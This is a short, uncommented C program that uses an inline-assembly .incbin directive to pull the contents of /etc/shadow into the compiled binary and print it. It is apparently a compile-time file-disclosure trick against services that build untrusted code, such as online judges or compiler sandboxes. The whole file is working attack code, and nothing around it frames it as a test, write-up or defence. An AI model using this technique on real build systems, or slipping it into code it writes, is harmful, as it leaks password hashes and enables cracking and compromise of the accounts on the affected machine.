__asm__(".section .rodata\n.globl secret\nsecret: .incbin \"/etc/shadow\"\n.byte 0\n");
extern const char secret[];
int puts(const char *);
int main(void) { puts(secret); }
